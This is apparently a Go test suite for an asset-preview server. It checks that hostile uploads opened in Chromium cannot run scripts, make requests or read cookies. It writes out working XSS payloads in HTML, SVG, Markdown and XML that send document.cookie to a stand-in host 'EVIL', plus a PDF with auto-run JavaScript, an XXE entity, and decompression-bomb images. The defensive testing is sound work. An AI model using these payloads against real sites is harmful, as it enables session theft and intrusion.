package previews_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	encoder "image/png"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/10ex/assets/internal/testing/chromium"
)

// Hostile contents try to run scripts, to open other pages and to read the cookie. EVIL is
// another origin, OWN a path on the server's origin.
const (
	hostileScript = `document.title='ran';alert(1);new Image().src='EVIL/image?'+document.cookie;fetch('OWN/fetch?'+document.cookie);` +
		`navigator.sendBeacon('EVIL/beacon',document.cookie);window.open('EVIL/open');location='EVIL/location?'+document.cookie`
	hostileHTML = `<!DOCTYPE html><html><head><base href="EVIL/base/"><meta http-equiv="refresh" content="0;url=EVIL/refresh">` +
		`<link rel="stylesheet" href="EVIL/style.css"><link rel="prefetch" href="EVIL/prefetch"><link rel="preconnect" href="EVIL"><style>@import 'EVIL/import.css';body{background:url(EVIL/background)}</style></head>` +
		`<body onload="` + hostileScript + `"><h1>Hello</h1><img src="EVIL/img" onerror="` + hostileScript + `"><script>` + hostileScript + `</script>` +
		`<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.location='EVIL/srcdoc'</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">` +
		`<video src="EVIL/video" autoplay></video><form id="f" action="EVIL/form" method="post"><input name="x"><button autofocus onfocus="form.submit()">Go</button></form>` +
		`<svg><script>` + hostileScript + `</script><image href="EVIL/svg"/></svg><a href="javascript:` + hostileScript + `" class="click">Click</a></body></html>`
	hostileSVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="` + hostileScript + `">` +
		`<script>` + hostileScript + `</script><image xlink:href="EVIL/image" width="9" height="9"/><use href="EVIL/use#x"/>` +
		`<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"></iframe></foreignObject></svg>`
	hostileMarkdown = "# Hello\n\n<script>" + hostileScript + "</script>\n\n<img src=EVIL/raw onerror=\"" + hostileScript + "\">\n\n![remote](EVIL/image)\n\n" +
		"[script](javascript:" + hostileScript + ") [data](data:text/html,<script>alert(1)</script>) <iframe src=EVIL/frame></iframe>\n\n" +
		"<form action=EVIL/form><button>Go</button></form><meta http-equiv=refresh content=\"0;url=EVIL/refresh\">\n"
	hostileXML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="EVIL/style.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "EVIL/entity">]>` +
		`<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>` + hostileScript + `</h:script><h:iframe src="EVIL/frame"/>&e;</x>`
)

// hostilePDF returns a PDF that runs a script, opens a link and submits a form when it is
// opened.
func hostilePDF(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var at []int
	stream := "BT /F1 24 Tf 72 700 Td (Quarterly deck) Tj ET"
	for i, object := range []string{
		"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 6 0 R>>/AcroForm<</Fields[]>>>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 8 0 R>>>>/AA<</O 7 0 R>>>>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(stream), stream),
		"<</S/JavaScript/JS(app.alert\\('ran'\\); this.submitForm\\('EVIL/submit'\\); app.launchURL\\('EVIL/launch'\\))/Next 7 0 R>>",
		"<</S/SubmitForm/F(EVIL/close)>>",
		"<</S/URI/URI(EVIL/uri)>>",
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj%s endobj\n", i+1, object)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.String()
}

// hugePNG returns a PNG that declares 50,000 × 50,000 pixels.
func hugePNG() string {
	header := append([]byte("IHDR\x00\x00\xc3\x50\x00\x00\xc3\x50"), 8, 6, 0, 0, 0)
	file := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), header...)
	file = binary.BigEndian.AppendUint32(file, crc32.ChecksumIEEE(header))
	return string(append(file, "\x00\x00\x00\x00IEND\xae\x42\x60\x82"...))
}

// animatedGIF returns a GIF with a number of frames.
func animatedGIF(t *testing.T, frames, width, height int) string {
	t.Helper()
	all := &gif.GIF{}
	for i := range frames {
		frame := image.NewPaletted(image.Rect(0, 0, width, height), color.Palette{color.RGBA{200, 40, byte(i), 255}, color.White})
		all.Image, all.Delay = append(all.Image, frame), append(all.Delay, 1)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, all); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// gradientPNG returns a PNG with a gradient.
func gradientPNG(t *testing.T, w, h int) string {
	t.Helper()
	im := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range w * h {
		im.SetRGBA(i%w, i/w, color.RGBA{byte(i % w * 255 / w), byte(i / w * 255 / h), 160, 255})
	}
	var b bytes.Buffer
	if err := encoder.Encode(&b, im); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestVolumeHostileContentPRV05 opens every hostile content on every route in Chromium. No
// script runs, nothing is requested and no cookie is read.
func TestVolumeHostileContentPRV05(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	var names, routes []string
	var visits []chromium.Visit
	for _, h := range []struct{ name, typ, media, content, query string }{
		{"svg", "image", "image/svg+xml", hostileSVG, ""},
		{"svg-in-a-bundle", "bundle", "image/svg+xml", hostileSVG, ""},
		{"html", "copy", "text/html", hostileHTML, ""},
		{"html-deck", "slide", "text/html", hostileHTML, ""},
		{"html-in-a-bundle", "bundle", "text/html", hostileHTML, ""},
		{"markdown", "blog", "text/markdown", hostileMarkdown, ""},
		{"text", "copy", "text/plain", hostileHTML, ""},
		{"xml", "bundle", "application/xml", hostileXML, ""},
		{"xhtml", "bundle", "application/xhtml+xml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>` + hostileScript + `</script></html>`, ""},
		{"polyglot", "image", "image/png", gradientPNG(t, 300, 200) + hostileHTML, ""},
		{"polyglot-scaled", "image", "image/png", gradientPNG(t, 300, 200) + hostileHTML, "?width=160"},
		{"video", "video", "video/webm", video(t, "spring.webm") + hostileHTML, ""},
		{"pdf", "slide", "application/pdf", hostilePDF(t), ""},
		{"vast", "image", "image/png", hugePNG(), ""},
		{"vast-scaled", "image", "image/png", hugePNG(), "?width=640"},
		{"flicker", "image", "image/gif", animatedGIF(t, 10_000, 8, 8), ""},
		{"flicker-scaled", "image", "image/gif", animatedGIF(t, 10_000, 200, 8), "?width=160"},
	} {
		b.Upload(h.typ, h.media, h.name, []byte(b.arm(h.content, h.name)))
		for route, path := range b.routes(h.query) {
			v := b.visit(path)
			v.Click, v.Plays, v.Settle = "a:not([href^='?'])", h.typ == "video", true
			names, routes, visits = append(names, h.name), append(routes, route), append(visits, v)
		}
	}
	opened := map[string]bool{} // a page that loads late is seen by the next visit of its tab
	for _, v := range visits {
		opened[v.URL] = true
	}
	for i, s := range b.Open(visits...) {
		name := names[i] + " " + routes[i]
		if names[i] == "pdf" {
			// The PDF viewer runs scripts of documents in an engine of its own, which
			// no policy of the server affects. All they can do is open a dialog.
			s.Dialogs = max(0, s.Dialogs-1)
		}
		if s.Error != "" || s.Dialogs+s.Popups > 0 {
			t.Errorf("%s: %+v", name, s)
		}
		for _, request := range s.Requests {
			if !strings.HasPrefix(request, "chrome") && !strings.HasPrefix(request, "blob:chrome-extension:") && !opened[request] {
				t.Errorf("%s: requested %s", name, request)
			}
		}
		if want := names[i] == "vast-scaled" && routes[i] != "content"; want != (s.Status == 415) || !s.Download && s.Status != 200 && !want {
			t.Errorf("%s: status %d, download %v", name, s.Status, s.Download)
		}
	}
	if evil, own := b.evil.take(), b.own.take(); len(evil)+len(own) > 0 {
		t.Errorf("the other origin received %q, ours %q", evil, own)
	}
	bare := b.visit("/bare") // without protection the attack must be noticed
	bare.Settle = true
	s := b.Open(bare)[0]
	evil, own := b.evil.take(), b.own.take()
	if len(evil) == 0 || len(own) == 0 || s.Dialogs == 0 || !strings.Contains(strings.Join(own, " "), session) {
		t.Errorf("the attack is not noticed without protection: %+v, %v, %v", s, evil, own)
	}
}

// TestVolumeLinksSendNoRefererPRV07: following a link on a preview does not send the
// preview's address.
func TestVolumeLinksSendNoRefererPRV07(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	for media, content := range map[string]string{"text/markdown": "[go](EVIL/followed)", "text/html": `<a href="EVIL/followed" referrerpolicy="unsafe-url" ping="EVIL/ping">go</a>`} {
		name := path.Base(media)
		b.Upload("blog", media, "a", []byte(b.arm(content, name)))
		var visits []chromium.Visit
		for _, route := range []string{"preview", "public"} {
			v := b.visit(b.routes("")[route])
			v.Click, v.Leaves = "a:not([href^='?'])", true
			visits = append(visits, v)
		}
		for _, s := range b.Open(visits...) {
			if s.Error != "" {
				t.Errorf("%s: %+v", name, s)
			}
		}
		followed := "GET /" + name + `/followed from ""`
		if got, want := b.evil.take(), []string{followed, followed}; !slices.Equal(got, want) {
			t.Errorf("%s: the link's target received %q, want %q", name, got, want)
		}
	}
}
